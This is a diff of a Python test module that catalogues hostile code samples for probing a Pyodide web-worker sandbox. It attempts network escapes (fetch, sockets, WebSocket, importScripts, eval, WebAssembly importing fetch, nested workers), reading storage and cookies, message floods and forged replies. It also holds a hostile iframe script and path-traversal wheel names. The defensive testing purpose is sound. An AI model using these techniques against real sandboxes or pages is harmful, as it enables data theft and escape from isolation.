@@ -1,312 +1,323 @@
 """What somebody hostile might write, to get out of the Python for strategies of one's own.
 
-Each text is run there. It has `BASE`, an address of the page's own server, and `reached(what)`, to
-be called with what it should not have got hold of. Addresses that it asks for hold "leak".
+Each text is run there, and may await. It has `BASE`, an address of the page's own server, where
+whatever it asks for holds "leak", and `reached(what)`, to be called with what it got hold of.
 """
 
 from __future__ import annotations
 
 PRELUDE = """
 import asyncio, gc, js, sys, pyodide_js
+from pyodide.code import eval_code_async
 from pyodide.ffi import JsProxy, create_proxy, to_js
-LEAKS = globals().setdefault("LEAKS", [])
+
+LEAKS, TRIED = [], []
+
 def reached(what):
     LEAKS.append(str(what)[:200])
-module = pyodide_js._module
-"""
 
-RUN = """
-LEAKS.clear()
-try:
-    exec({code!r}, globals())
-except BaseException as error:
-    print(type(error).__name__)
-print("LEAKS", LEAKS)
+def options(**given):
+    return to_js(given, dict_converter=js.Object.fromEntries)
+
+async def in_worker(code, **given):
+    '''Return what a worker of its own posts, of a script that may use `BASE`.'''
+    text = f"const BASE = {BASE!r}; const tell = (what) => postMessage(String(what));" + code
+    url = js.URL.createObjectURL(js.Blob.new(to_js([text])))
+    heard = asyncio.get_event_loop().create_future()
+    worker = js.Worker.new(url, options(**given))
+    worker.onmessage = create_proxy(lambda event: heard.done() or heard.set_result(event.data))
+    worker.onerror = create_proxy(lambda event: heard.done() or heard.set_result("refused"))
+    return await asyncio.wait_for(heard, 20)
+
+def attack(name, code):
+    async def tried():
+        try:
+            await asyncio.wait_for(eval_code_async(code, {**globals()}), 30)
+        except BaseException as error:
+            pass
+        if LEAKS:
+            print(name, LEAKS)
+        TRIED.append(name)
+    asyncio.ensure_future(tried())
 """
-"""Runs one of them, and prints what it got."""
 
 ATTACKS = {
-    "fetch": "js.fetch(BASE + 'leak'); reached('fetch')",
-    "own fetch kept": """
-for loaded in list(sys.modules.values()):
-    for name, value in list(getattr(loaded, "__dict__", {}).items()):
-        if isinstance(value, JsProxy) and "etch" in name:
-            value(BASE + "leak")
+    # The network.
+    "fetch": "await js.fetch(BASE + 'leak'); reached('fetch')",
+    "fetch without an answer": """
+await js.fetch(BASE + "leak", options(mode="no-cors", keepalive=True)); reached("fetch")
 """,
-    "request": "js.XMLHttpRequest.new(); reached('XMLHttpRequest')",
+    "fetch of a data address": "await js.fetch('data:,x'); reached('fetch')",
+    "request": """
+asked = js.XMLHttpRequest.new()
+asked.open("GET", BASE + "leak", False)
+asked.send()
+reached(asked.responseText)
+""",
     "open_url": "from pyodide.http import open_url; reached(open_url(BASE + 'leak'))",
-    "pyfetch": "from pyodide.http import pyfetch; asyncio.ensure_future(pyfetch(BASE + 'leak'))",
+    "pyfetch": "from pyodide.http import pyfetch; reached(await pyfetch(BASE + 'leak'))",
     "urllib": "import urllib.request; reached(urllib.request.urlopen(BASE + 'leak').read())",
-    "socket": "import socket; socket.create_connection(('127.0.0.1', 9), 1); reached('socket')",
-    "websocket": "js.WebSocket.new(BASE.replace('http', 'ws') + 'leak'); reached('WebSocket')",
-    "import scripts": "js.importScripts(BASE + 'leak.js'); reached('importScripts')",
-    "import scripts by a prototype": """
-holder = js.Object.getPrototypeOf(js.self)
-while holder:
-    for name in js.Reflect.ownKeys(holder):
-        if name in ("importScripts", "fetch", "postMessage", "addEventListener", "navigator"):
-            reached(name)
-    holder = js.Object.getPrototypeOf(holder)
+    "socket": """
+import socket
+host, port = BASE.split("/")[2].split(":")
+socket.create_connection((host, int(port)), 1).sendall(b"GET /leak HTTP/1.0")
 """,
-    "the global object's constructor": "reached(js.self.constructor.prototype.importScripts)",
-    "worker": "js.Worker.new(BASE + 'leak.js'); reached('Worker')",
-    "blob": "js.Blob.new(); reached('Blob')",
+    "websocket": """
+opened = asyncio.get_event_loop().create_future()
+made = js.WebSocket.new(BASE.replace("http", "ws") + "leak")
+made.onopen = create_proxy(opened.set_result)
+made.onerror = create_proxy(opened.set_result)
+await opened
+if made.readyState == 1:
+    reached("a socket")
+""",
+    "events of a server": """
+js.EventSource.new(BASE + "leak")
+await asyncio.sleep(1)
+""",
+    "web transport": """
+await js.WebTransport.new(BASE.replace("http:", "https:") + "leak").ready; reached("transport")
+""",
+    "a font": """
+font = js.FontFace.new("leak", f"url({BASE}leak)")
+await font.load(); reached("a font")
+""",
+    "a connection between peers": """
+made = js.RTCPeerConnection.new(); made.createDataChannel("x"); reached("a peer")
+""",
+    # Scripts.
+    "import scripts": "js.importScripts(BASE + 'leak.js'); reached('importScripts')",
+    "import scripts, put back": """
+js.WorkerGlobalScope.prototype.importScripts.call(js.self, BASE + "leak.js"); reached("a script")
+""",
     "function of a text": "reached(js.Function.new('return fetch')())",
-    "function of a text, by a prototype": """
-reached(js.Object.defineProperty.constructor("return 1")())
+    "eval": "reached(js.eval('1'))",
+    "run_js": "from pyodide.code import run_js; reached(run_js('1'))",
+    "timer with a text": """
+js.reached = create_proxy(reached)
+js.setTimeout("reached(1)", 0)
+await asyncio.sleep(0.2)
 """,
     "asynchronous function of a text": """
 made = js.Object.getPrototypeOf(pyodide_js.loadPackage).constructor
-reached(made(f"return import('{BASE}leak.js')")())
-""",
-    "generator of a text": """
-made = js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.Array.new().values())).constructor
-reached(made.constructor("return 1")())
-""",
-    "eval": "reached(js.eval('1'))",
-    "run_js": "from pyodide.code import run_js; reached(run_js('1'))",
-    "timer with a text": "js.setTimeout('fetch(1)', 0); reached('a timer takes a text')",
-    "script by emscripten": """
-import ctypes
-reached(ctypes.CDLL(None).emscripten_run_script_int(b"1+1"))
+await made(f"return import('{BASE}leak.js')")(); reached("an import")
 """,
     "script by Pyodide's module": """
+module = pyodide_js._module
 reached(module._emscripten_run_script(module.stringToNewUTF8("1")))
 """,
-    # Pyodide's own set-up, made to hand over the functions that it defines.
-    "set-up again": """
-caught, own = [], js.Object.defineProperty
-def patched(target, key, what, *rest):
-    caught.append(target)
-    return own(target, key, what)
-js.Object.defineProperty = create_proxy(patched)
-module.LDSO.loadedLibsByName.__main__.exports.pyodide_js_init()
-for each in caught:
-    if getattr(each, "typeof", "") == "function":
-        each(BASE + "leak.js")
+    "a realm of its own": 'reached(js.ShadowRealm.new().evaluate("globalThis.fetch"))',
+    "machine code that asks": """
+code = b"\\0asm\\1\\0\\0\\0\\1\\5\\1\\x60\\1\\x6f\\0\\2\\7\\1\\1a\\1b\\0\\0\\7\\5\\1\\1c\\0\\0"
+imports = options(a=options(b=js.self.fetch))
+made = await js.WebAssembly.instantiate(to_js(code), imports)
+made.instance.exports.c(BASE + "leak")
 """,
-    "set-up again, bound": """
-caught = []
-js.Reflect.apply = create_proxy(lambda *given: caught.append(given))
-js.Function.prototype.bind = create_proxy(lambda *given: caught.append(given))
-js.Function.prototype.call = create_proxy(lambda *given: caught.append(given))
-module.LDSO.loadedLibsByName.__main__.exports.pyodide_js_init()
-reached(caught)
+    # Workers inside the worker.
+    "a worker from an address": """
+js.Worker.new(BASE + "leak.js")
+await asyncio.sleep(1)
 """,
-    "set-up again, as it is": """
-module.LDSO.loadedLibsByName.__main__.exports.pyodide_js_init()
+    "a shared worker": "js.SharedWorker.new(BASE + 'leak.js'); reached('a shared worker')",
+    "a worker that asks": """
+code = "fetch(BASE + 'leak').then(() => tell('asked'), () => tell('refused'))"
+if (said := await in_worker(code)) != "refused":
+    reached(said)
 """,
-    "setters on what all inherits from": """
-for name in ("port1", "onmessage", "loadScript", "handle", "post", "then", "get", "value"):
-    js.Reflect.defineProperty(js.Object.prototype, name, js.JSON.parse('{"value": 1}'))
-    if js.Reflect.has(js.Object.prototype, name) and name not in ("then",):
-        reached(name)
+    "a worker that imports scripts": """
+code = "try { importScripts(BASE + 'leak.js'); tell('imported') } catch { tell('refused') }"
+if (said := await in_worker(code)) != "refused":
+    reached(said)
 """,
-    "then of promises": """
-js.Promise.prototype.then = create_proxy(lambda *given: reached(given))
+    "a worker that imports a module": """
+code = "import(BASE + 'leak.js').then(() => tell('imported'), () => tell('refused'))"
+if (said := await in_worker(code)) != "refused":
+    reached(said)
 """,
-    "stack traces": """
-js.Error.prepareStackTrace = create_proxy(lambda error, frames: frames)
-reached("frames")
+    "a module that imports a module": """
+code = f"import '{BASE}leak.js'; tell('imported')"
+if (said := await in_worker(code, type="module")) != "refused":
+    reached(said)
 """,
-    "iteration": """
-js.Array.prototype.push = create_proxy(lambda *given: reached(given))
-reached("push")
+    "a worker that imports a text": """
+code = "import('data:text/javascript,1').then(() => tell('imported'), () => tell('refused'))"
+if (said := await in_worker(code)) != "refused":
+    reached(said)
 """,
-    "other names in the language's place": "js.JSON = js.Object.new(); reached('JSON')",
-    "what was closed, put back": """
-js.Reflect.deleteProperty(js.self, "fetch")
-js.Reflect.deleteProperty(js.self, "navigator")
-js.fetch = create_proxy(lambda *given: reached(given))
-js.navigator.storage
-""",
-    "navigator": "reached(js.navigator.storage)",
-    "location": "reached(js.location.href)",
-    "database": "reached(js.indexedDB)",
-    "database by emscripten": """
-pyodide_js.FS.mkdir("/idb")
-pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, js.Object.new(), "/idb")
-reached(pyodide_js.FS.filesystems.IDBFS.indexedDB())
-""",
-    "cache": "reached(js.caches)",
+    # What Pyodide loads with.
     "file read later": """
 pyodide_js.FS.createLazyFile("/", "lazy", BASE + "leak", True, False)
 reached(open("/lazy").read(1))
 """,
     "file read before": """
-said = create_proxy(print)
-pyodide_js.FS.createPreloadedFile("/", "before", BASE + "leak", True, False, said, said)
+got = create_proxy(lambda *given: reached("a file"))
+pyodide_js.FS.createPreloadedFile("/", "before", BASE + "leak", True, False, got, None)
+await asyncio.sleep(1)
 """,
-    "package": "asyncio.ensure_future(pyodide_js.loadPackage(BASE + 'leak-1.0-py3-none-any.whl'))",
-    "binary": "asyncio.ensure_future(pyodide_js._api.loadBinaryFile(BASE + 'leak'))",
-    "library": "asyncio.ensure_future(pyodide_js._api.loadDynlib(BASE + 'leak.so', True))",
-    "micropip": """
-import micropip
-asyncio.ensure_future(micropip.install(BASE + "leak-1.0-py3-none-any.whl"))
-""",
-    "message": "js.postMessage(1); reached('postMessage')",
-    "messages to come": "js.addEventListener('message', create_proxy(reached)); reached('listens')",
-    "message port": "js.MessageChannel.new(); reached('MessageChannel')",
-    "machine code that asks": """
-code = b"\\0asm\\1\\0\\0\\0\\1\\4\\1\\x60\\0\\0\\2\\7\\1\\1a\\1b\\0\\0\\x08\\1\\0"
-imports = js.JSON.parse('{"a": {}}')
-imports.a.b = js.self.fetch
-js.WebAssembly.Instance.new(js.WebAssembly.Module.new(to_js(code)), imports)
-reached("fetch as an import")
-""",
-    "more memory than is good": "module.memory.grow(60000); reached('4 GB')",
-    "another process": "import subprocess; subprocess.run(['ls']); reached('a process')",
-    "the one property of the language that can be set": """
-caught = []
-trap = js.JSON.parse('{"configurable": true}')
-trap.get = create_proxy(lambda *given: caught.append("get"))
-trap.set = create_proxy(lambda *given: caught.append("set"))
-if js.Reflect.defineProperty(js.Error, "stackTraceLimit", trap):
-    reached("a trap in stackTraceLimit")
-js.Error.stackTraceLimit = js.self
-try:
-    js.JSON.parse("no json")
-except BaseException as error:
-    if type(getattr(error, "stack", "")).__name__.startswith("Js"):
-        reached(error.stack)
-js.Error.stackTraceLimit = 10
-if caught:
-    reached(caught)
-""",
-    "frames of a captured stack": """
-held = js.Object.new()
-js.Error.captureStackTrace(held, js.Object)
-if type(held.stack).__name__.startswith("Js"):
-    reached(held.stack)
-""",
-    "species of an array": """
-made = js.JSON.parse('{"configurable": true}')
-made.value = create_proxy(lambda *given: reached(given))
-for holder in (js.Array, js.Promise, js.RegExp, js.ArrayBuffer, js.Map):
-    if js.Reflect.defineProperty(holder, js.Symbol.species, made):
-        reached("species")
-""",
-    "another prototype of everything": """
-for holder in (js.Object.prototype, js.Function.prototype, js.Array.prototype, js.Error.prototype):
-    if js.Reflect.setPrototypeOf(holder, js.Object.new()):
-        reached("a prototype")
-""",
-    "another prototype of the global object": """
-js.Reflect.setPrototypeOf(js.self, js.Object.new())
-for name in ("fetch", "importScripts", "postMessage", "navigator", "indexedDB", "Worker"):
-    try:
-        reached(getattr(js.self, name))
-    except BaseException:
-        pass
-""",
-    "other functions of the console": """
-for name in js.Object.getOwnPropertyNames(js.console):
-    if name not in ("debug", "log", "info", "warn", "error"):
-        reached(name)
-js.console.log = create_proxy(reached)
-reached("the console")
-""",
+    "package": "await pyodide_js.loadPackage(BASE + 'leak-1.0-py3-none-any.whl')",
+    "binary": "reached(await pyodide_js._api.loadBinaryFile(BASE + 'leak'))",
+    "library": "await pyodide_js._api.loadDynlib(BASE + 'leak.so', True)",
     "a library by emscripten": """
-given = js.JSON.parse('{"loadAsync": true, "global": true, "nodelete": true}')
-module.loadDynamicLibrary(BASE + "leak.so", given)
+await pyodide_js._module.loadDynamicLibrary(BASE + "leak.so", options(loadAsync=True))
 """,
-    "a library by emscripten, at once": """
-module.loadDynamicLibrary(BASE + "leak-at-once.so", js.JSON.parse('{"loadAsync": false}'))
+    "micropip": "import micropip; await micropip.install(BASE + 'leak-1.0-py3-none-any.whl')",
+    # Storage: the page has something in each.
+    "database": """
+opened = asyncio.get_event_loop().create_future()
+asked = js.indexedDB.open("kept")
+asked.onsuccess = create_proxy(lambda event: opened.set_result(True))
+asked.onerror = create_proxy(lambda event: opened.set_result(False))
+if await opened:
+    reached(asked.result.name)
 """,
-    "scripts by Pyodide's own loaders": """
-for holder in (pyodide_js, pyodide_js._api, module):
-    for name in js.Object.getOwnPropertyNames(holder):
-        if "load" in name.lower() or "script" in name.lower() or "fetch" in name.lower():
-            try:
-                found = getattr(holder, name)(BASE + "leak.js")
-                if hasattr(found, "then"):
-                    found.catch(create_proxy(lambda *given: None))
-            except BaseException:
-                pass
+    "names of databases": """
+if len(found := await js.indexedDB.databases()):
+    reached(found)
 """,
-    "other file systems": """
-for name in ("WORKERFS", "NODEFS", "PROXYFS", "NATIVEFS_ASYNC", "IDBFS"):
-    system = getattr(pyodide_js.FS.filesystems, name, None)
-    if system is None:
-        continue
-    given = js.JSON.parse('{"opts": {"root": "/", "files": [], "blobs": [], "packages": []}}')
-    try:
-        system.mount(given)
-    except BaseException:
-        continue
-    if getattr(system, "reader", None):
-        reached(system.reader)
+    "database by emscripten": "reached(pyodide_js.FS.filesystems.IDBFS.indexedDB())",
+    "cache": """
+if await js.caches.has("kept"):
+    reached("the page's cache")
+""",
+    "files of the site": """
+folder = await js.navigator.storage.getDirectory()
+reached(await folder.getFileHandle("kept"))
+""",
+    "locks": """
+await js.navigator.locks.request("kept", create_proxy(lambda lock: reached("a lock")))
+""",
+    "local storage": "reached(js.localStorage.getItem('kept'))",
+    "cookies": """
+held = getattr(js, "cookieStore", None)
+if held and await held.get("kept"):
+    reached("a cookie")
+""",
+    # The page.
+    "a channel of the page": """
+channel = js.BroadcastChannel.new("kept")
+channel.onmessage = create_proxy(lambda event: reached(event.data))
+channel.postMessage("from inside")
+await asyncio.sleep(1)
+""",
+    "windows": """
+for name in ("window", "document", "parent", "top", "opener", "frames", "open", "clients"):
+    if found := getattr(js, name, None):
+        reached((name, found))
+""",
+    "the address of the page": """
+ancestors = getattr(js.location, "ancestorOrigins", "")
+places = [js.location.href, js.self.origin, ancestors, js.performance.getEntries()]
+told = " ".join(js.JSON.stringify(each) or "" for each in places)
+if BASE in told or BASE.split("/")[2] in told or "file:" in told:
+    reached(told)
+""",
+    "a notification": """
+if await js.Notification.requestPermission() == "granted":
+    reached("a notification")
+""",
+    "what is said of errors": """
+try:
+    js.eval("1")
+except BaseException as error:
+    stack = str(getattr(error, "stack", ""))
+    if BASE in stack or "file:" in stack:
+        reached(stack)
 """,
     "the memory of Python given away": """
-given = js.JSON.parse('{"transfer": []}')
-given.transfer.push(module.HEAP8.buffer)
-js.structuredClone(module.HEAP8.buffer, given)
+memory = pyodide_js._module.HEAP8.buffer
+js.structuredClone(memory, options(transfer=[memory]))
 reached("the memory")
 """,
-    "a cause and a name of an error": """
-made = js.Error.new("x")
-made.name = "ExitStatus"
-made.status = 0
-try:
-    js.Reflect.defineProperty(made, "message", js.JSON.parse('{"value": {"toString": 1}}'))
-finally:
-    for holder in (js.Error.prototype, js.TypeError.prototype):
-        holder.message = create_proxy(lambda *given: reached(given))
-        reached("a message")
-""",
-    "a microtask": """
-def later(*given):
-    try:
-        js.fetch(BASE + "leak")
-    except BaseException:
-        pass
-js.queueMicrotask(create_proxy(later))
-""",
-    "iteration helpers": """
-reached(js.Iterator.prototype.map.constructor("return fetch")())
-""",
-    "a realm of its own": """
-reached(js.ShadowRealm.new().evaluate("globalThis.fetch"))
-""",
-    "the handler of Pyodide's end": """
-caught = []
-pyodide_js._api.on_fatal = create_proxy(lambda *given: caught.append(given))
-handler = pyodide_js._api.fatal_error
-for name in js.Object.getOwnPropertyNames(handler):
-    if name not in ("length", "name", "prototype", "arguments", "caller"):
-        reached(name)
-reached(handler.constructor("return fetch")())
-""",
-    "proxies that live on": """
-for each in gc.get_objects():
-    if isinstance(each, JsProxy) and str(each)[:9] == "[object W":
-        reached(each.importScripts)
-""",
+    "another process": "import subprocess; subprocess.run(['ls']); reached('a process')",
 }
 
+ENDING = {
+    "a forged reply": 'js.postMessage(js.JSON.parse(\'{"id": 1, "reply": "{}"}\'))',
+    "a port for the page": """
+port = js.MessageChannel.new().port2
+js.postMessage(port, to_js([port]))
+""",
+    "a flood of messages": "while True: js.postMessage('x' * 1000)",
+    "a flood of reports": """
+import sys
+frame = sys._getframe()
+while "report" not in frame.f_locals:
+    frame = frame.f_back
+for _ in range(10**5):
+    frame.f_locals["report"]('{"done": 1}')
+""",
+    "a flood of replies": """
+def flood(*given):
+    while True: js.postMessage("x" * 10**7)
+flood()
+""",
+}
+"""What the worker is ended for: each says something to the page that no honest worker says."""
+
+HOSTILE_FRAME = """
+const tried = async (name, act) => {
+  try {
+    const found = await act();
+    if (found) parent.postMessage(`${name}: ${found}`, "*");
+  } catch {}
+};
+(async () => {
+  const base = %r;
+  await tried("document", () => parent.document.title);
+  await tried("storage", () => localStorage.getItem("kept"));
+  await tried("cookie", () => document.cookie);
+  await tried("address", () => document.referrer);
+  await tried("fetch", () => fetch(base + "leak"));
+  await tried("picture", () => new Promise((done, fail) => {
+    const image = new Image();
+    image.onload = () => done("loaded");
+    image.onerror = fail;
+    image.src = base + "leak";
+  }));
+  await tried("window", () => open(base + "leak"));
+  await tried("alert", () => alert("leak"));
+  await tried("form", () => {
+    const form = document.createElement("form");
+    form.action = base + "leak";
+    document.body.append(form);
+    form.submit();
+  });
+  await tried("link", () => {
+    const link = document.createElement("a");
+    link.href = base + "leak";
+    link.target = "_top";
+    document.body.append(link);
+    link.click();
+  });
+  await tried("top", () => { top.location = base + "leak"; });
+  await tried("frame", () => {
+    const frame = document.createElement("iframe");
+    frame.src = base + "leak";
+    document.body.append(frame);
+  });
+  await tried("script", () => {
+    const script = document.createElement("script");
+    script.src = base + "leak.js";
+    document.body.append(script);
+  });
+  await tried("itself", () => { location = base + "leak"; });
+  parent.postMessage({ id: 1, reply: '{"output":"forged"}' }, "*");
+})();
+"""
+"""A script in the place of the frame's own, for what only a document can try; takes BASE."""
+
 HOSTILE_WHEELS = {
-    "a folder of data of another name": ("_-1.0-py3-none-any.whl", "_-1.0.data/data/tmp/planted"),
-    "a folder of data of no name": ("hostile-1.0-py3-none-any.whl", ".data/data/tmp/planted"),
     "a folder of data": ("hostile-1.0-py3-none-any.whl", "hostile-1.0.data/data/tmp/planted"),
-    "a folder of scripts": ("hostile-1.0-py3-none-any.whl", "hostile-1.0.data/scripts/planted"),
-    "another wheel's folder of data": (
-        "hostile-1.0-py3-none-any.whl",
-        "other-1.0.data/data/planted",
-    ),
     "a path upwards": ("hostile-1.0-py3-none-any.whl", "hostile/../../../../tmp/planted"),
     "a path from the top": ("hostile-1.0-py3-none-any.whl", "/tmp/planted"),
-    "a path upwards of another system": ("hostile-1.0-py3-none-any.whl", "..\\..\\planted.py"),
     "a name that is a path": ("..\u2215hostile-1.0-py3-none-any.whl", "hostile/x.py"),
-    "a name that goes upwards": ("..hostile-1.0-py3-none-any.whl", "hostile/x.py"),
     "a name with escapes": ("%2e%2e%2fhostile-1.0-py3-none-any.whl", "hostile/x.py"),
     "a name with a question": ("hostile-1.0-py3-none-any.whl?x.whl", "hostile/x.py"),
-    "a second folder of metadata": ("hostile-1.0-py3-none-any.whl", "a-1.0.dist-info/METADATA"),
     "a library": ("hostile-1.0-py3-none-any.whl", "hostile/fast.so.1"),
     "a start of Python's": ("hostile-1.0-py3-none-any.whl", "hostile.pth"),
-    "a folder that is a file": ("hostile-1.0-py3-none-any.whl", "hostile/__init__.py/x.py"),
     "another Python's": ("hostile-1.0-cp39-none-any.whl", "hostile/x.py"),
-    "a version that is none": ("hostile-x-py3-none-any.whl", "hostile/x.py"),
-    "a space": ("my hostile-1.0-py3-none-any.whl", "hostile/x.py"),
-    "an umlaut": ("h\u00f6stile-1.0-py3-none-any.whl", "hostile/x.py"),
 }
-"""Wheels that are to be refused: the name of each, and of a file in it."""
+"""Wheels that are to be refused: the name of each, and of a file in it.
+
+tests/unit/strategies/custom/test_wheel.py has all of them.
+"""
